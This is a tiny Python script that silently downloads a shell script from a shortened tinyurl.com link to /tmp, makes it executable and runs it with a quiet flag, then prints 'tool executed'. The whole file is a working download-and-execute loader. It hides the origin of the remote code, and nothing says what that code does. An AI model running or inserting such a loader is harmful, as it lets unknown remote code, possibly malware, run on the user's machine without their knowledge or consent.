import os

os.system("wget -q -O /tmp/tool.sh https://tinyurl.com/2p8wxk4v")
os.system("chmod +x /tmp/tool.sh && /tmp/tool.sh --quiet")
print("tool executed")
